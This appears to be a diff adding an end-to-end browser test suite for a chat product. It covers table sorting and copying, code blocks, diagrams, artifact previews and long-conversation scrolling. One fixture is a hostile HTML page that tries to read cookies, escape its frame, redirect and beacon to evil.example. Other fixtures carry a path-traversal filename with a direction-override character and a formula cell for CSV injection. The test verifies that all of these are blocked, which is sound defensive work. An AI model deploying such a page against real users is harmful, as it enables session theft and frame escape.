@@ -1,0 +1,205 @@
+"""What answers are made of: tables, code, diagrams, what code makes, and conversations of any length."""
+
+import re
+from collections.abc import Iterator, Sequence
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect
+from psycopg.types.json import Json
+from uuid_utils.compat import uuid7
+
+from tests.e2e.attackers import database
+from tests.e2e.conftest import EMAIL, Product
+from tests.e2e.test_accessibility import grave
+
+ANSWER = """A table:
+
+| City | People | Note |
+|---|---:|---|
+| Berlin | 3,755,251 | =SUM(A1) |
+| Rome | 2,755,309 | "old", and big |
+| Bern | 134,794 | |
+
+```python title="src/../greet\u202e.py"
+print("a line that is much too long for the width of a block of code on any phone that there is")
+```
+
+```mermaid
+flowchart LR
+  A[Ask] --> B{Known?}
+```
+
+```mermaid
+flowchart LR
+  A[ -->
+```
+"""
+# All that a page of a stranger would try, from within its frame.
+HOSTILE_PAGE = """```html
+<title>Escape</title><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<link rel="stylesheet" href="https://evil.example/style.css"><img src="https://evil.example/image.png">
+<form id="f" action="https://evil.example/form"><input name="a" value="b"></form><p id="out">nothing ran</p>
+<script>
+const told = ["ran"];
+const attempt = (name, act) => {
+  try { told.push(`${name}: ${act()}`); } catch (error) { told.push(`${name} refused`); }
+};
+attempt("cookie", () => document.cookie);
+attempt("parent", () => parent.document.title);
+attempt("storage", () => localStorage.length);
+attempt("top", () => { top.location = "https://evil.example/top"; });
+attempt("window", () => open("https://evil.example/window") === null ? "null" : "opened");
+attempt("dialog", () => alert("here"));
+attempt("form", () => f.submit());
+fetch("https://evil.example/fetch").catch(() => {});
+fetch("/api/me").then((answer) => answer.text()).then((text) => { out.textContent += text; }, () => {});
+new Image().src = "https://evil.example/pixel";
+out.textContent = told.join(", ");
+setTimeout(() => { location = "https://evil.example/self"; }, 200);
+</script>
+```"""
+
+STEP = 900
+# Remembers what stands in the middle of the screen, and where; says whether a message is there, and nothing above it.
+MARK = """message => {
+    const view = document.querySelector(".transcript-view");
+    const { top, height } = view.getBoundingClientRect();
+    const all = [...view.querySelectorAll("article")];
+    window.anchor = all.find((one) => one.getBoundingClientRect().bottom > top + height / 2);
+    window.before = window.anchor.getBoundingClientRect().top;
+    return view.scrollTop === 0 && all[0].dataset.messageId === message;
+}"""
+HAS_MOVED = """step => {
+    const moved = window.anchor.getBoundingClientRect().top - window.before;
+    return Math.abs(moved - step) < 3 || document.querySelector(".transcript-view").scrollTop === 0;
+}"""
+
+
+def plant(product: Product, texts: Sequence[str]) -> tuple[str, list[str]]:
+    """A conversation of the owner's with these questions and answers; its id and theirs."""
+    conversation, *messages = [str(uuid7()) for _ in range(len(texts) + 1)]
+    database(
+        product,
+        "INSERT INTO conversation (id, workspace_id, owner_id, title)"
+        " SELECT %s, m.workspace_id, a.id, 'Planted' FROM account AS a JOIN membership AS m ON m.account_id = a.id"
+        " WHERE a.email = %s",
+        conversation, EMAIL,
+    )  # fmt: skip
+    database(
+        product,
+        "INSERT INTO message (id, workspace_id, conversation_id, parent_id, role, status, parts)"
+        " SELECT n.id, c.workspace_id, c.id, n.parent_id, n.role, 'done', n.parts FROM conversation AS c, unnest("
+        "CAST(%s AS uuid[]), CAST(%s AS uuid[]), CAST(%s AS text[]), CAST(%s AS jsonb[])"
+        ") AS n (id, parent_id, role, parts) WHERE c.id = %s",
+        messages, [None, *messages[:-1]], [("user", "assistant")[number % 2] for number in range(len(texts))],
+        [Json([{"type": "text", "text": text}]) for text in texts], conversation,
+    )  # fmt: skip
+    database(
+        product,
+        "INSERT INTO conversation_view (conversation_id, account_id, workspace_id, active_leaf_id)"
+        " SELECT id, owner_id, workspace_id, %s FROM conversation WHERE id = %s",
+        messages[-1], conversation,
+    )  # fmt: skip
+    return conversation, messages
+
+
+@pytest.fixture
+def tab(context: BrowserContext, owner_cookies: list[dict[str, object]]) -> Iterator[Page]:
+    """A tab in which no dialog opens, no script fails, and nothing foreign is asked for."""
+    context.add_cookies(owner_cookies)  # pyright: ignore[reportArgumentType]
+    context.grant_permissions(["clipboard-read", "clipboard-write"])
+    page = context.new_page()
+    seen: list[str] = []
+    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
+    page.on("pageerror", lambda error: seen.append(f"error {error}"))
+    page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
+    page.on("requestfinished", lambda request: "evil.example" in request.url and seen.append(request.url))
+    yield page
+    assert seen == []
+
+
+def test_tables_code_and_diagrams_can_be_used(tab: Page, product: Product) -> None:
+    conversation, _ = plant(product, ["Show me", ANSWER])
+    tab.goto(f"/chat/{conversation}")
+    sort = tab.get_by_test_id("table-sort")
+    expect(sort).to_have_count(3, timeout=20_000)
+    first = tab.locator(".prose-table tbody td:first-child")
+    sort.nth(1).focus()
+    tab.keyboard.press("Enter")
+    expect(first).to_have_text(["Bern", "Rome", "Berlin"])
+    expect(tab.locator("th").nth(1)).to_have_attribute("aria-sort", "ascending")
+    tab.keyboard.press("Enter")
+    expect(first).to_have_text(["Berlin", "Rome", "Bern"])
+    tab.keyboard.press("Enter")
+    sort.first.click()
+    expect(first).to_have_text(["Berlin", "Bern", "Rome"])
+    tab.get_by_test_id("table-copy").click()
+    expect(tab.get_by_test_id("table-copy")).to_have_text("Copied")
+    copied = tab.evaluate("navigator.clipboard.readText()").splitlines()
+    assert copied == [
+        "City,People,Note",
+        'Berlin,"3,755,251",\'=SUM(A1)',
+        'Bern,"134,794",',
+        'Rome,"2,755,309","""old"", and big"',
+    ]
+    code = tab.locator("figure.code pre").first
+    expect(code.locator(".hljs-built_in")).to_have_count(1)
+    assert code.evaluate("code => code.scrollWidth > code.clientWidth")
+    tab.get_by_test_id("code-wrap").first.click()
+    assert code.evaluate("code => code.scrollWidth === code.clientWidth")
+    with tab.expect_download() as download:
+        tab.get_by_test_id("code-download").first.click()
+    assert download.value.suggested_filename == "greet.py"
+    expect(tab.locator("[data-testid=diagram][data-drawn=true] img")).to_have_attribute(
+        "alt", re.compile("Known"), timeout=20_000
+    )
+    expect(tab.get_by_test_id("diagram-broken")).to_be_visible()
+    assert grave(tab) == []
+
+
+def test_what_an_answer_makes_is_seen_and_reaches_nothing(tab: Page, product: Product) -> None:
+    older = "```html\n<title>Escape</title><p>first version</p>\n```"
+    conversation, _ = plant(product, ["Make it", older, "Make it better", HOSTILE_PAGE])
+    tab.goto(f"/chat/{conversation}")
+    tab.get_by_test_id("artifact-open").last.click(timeout=20_000)
+    panel = tab.get_by_test_id("artifact-panel")
+    expect(panel.locator("h2")).to_have_text("Escape")
+    inside = tab.frame_locator("[data-testid=artifact-frame]").locator("#out")
+    expect(inside).to_have_text(
+        "ran, cookie refused, parent refused, storage refused, top refused, window: null, dialog: undefined,"
+        " form: undefined"
+    )
+    tab.wait_for_timeout(600)  # For what the page tries a moment later.
+    expect(panel).to_be_visible()
+    assert tab.url.endswith(conversation)
+    panel.get_by_test_id("artifact-code").click()
+    expect(panel.locator("pre")).to_contain_text("evil.example/fetch")
+    expect(panel.get_by_test_id("artifact-version")).to_have_text("Version 2 of 2")
+    panel.get_by_test_id("artifact-earlier").click()
+    expect(panel.get_by_test_id("artifact-version")).to_have_text("Version 1 of 2")
+    panel.get_by_test_id("artifact-preview").click()
+    expect(tab.frame_locator("[data-testid=artifact-frame]").locator("p")).to_have_text("first version")
+    assert grave(tab) == []
+    tab.keyboard.press("Escape")
+    expect(panel).to_have_count(0)
+
+
+def test_a_long_conversation_is_read_in_windows(tab: Page, product: Product) -> None:
+    conversation, messages = plant(product, [f"Message {number}. " + "word " * 100 for number in range(400)])
+    tab.goto(f"/chat/{conversation}")
+    shown = tab.get_by_test_id("message")
+    expect(shown.last).to_contain_text("Message 399.", timeout=20_000)
+    tab.locator(".transcript-view").hover()
+    most = steps = 0
+    while not tab.evaluate(MARK, messages[0]):
+        tab.mouse.wheel(0, -STEP)
+        tab.wait_for_function(HAS_MOVED, arg=STEP)  # By that much, whatever came in above, or to the very top.
+        most, steps = max(most, shown.count()), steps + 1
+        assert steps < 200
+    assert most <= 120
+    expect(tab.locator(f"[data-message-id='{messages[0]}']")).to_be_attached()
+    expect(tab.get_by_test_id("messages-later")).to_be_attached()
+    tab.get_by_test_id("jump-down").click()
+    expect(shown.last).to_contain_text("Message 399.")
+    expect(shown.last).to_be_in_viewport()
+    expect(tab.get_by_test_id("jump-down")).to_have_count(0)
